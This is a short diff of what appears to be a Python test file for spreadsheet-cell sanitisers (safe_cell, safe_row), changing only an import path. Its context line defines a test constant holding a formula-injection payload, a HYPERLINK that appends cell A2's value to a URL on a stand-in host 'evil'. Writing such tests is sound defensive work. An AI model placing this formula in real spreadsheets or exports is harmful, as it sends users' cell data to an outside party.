@@ -6,7 +6,7 @@ from datetime import date
 
 import pytest
 
-from services.cells import safe_cell, safe_row
+from services.adapters.cells import safe_cell, safe_row
 
 FORMULA = '=HYPERLINK("http://evil/?x="&A2,"GHT Lot")'
 
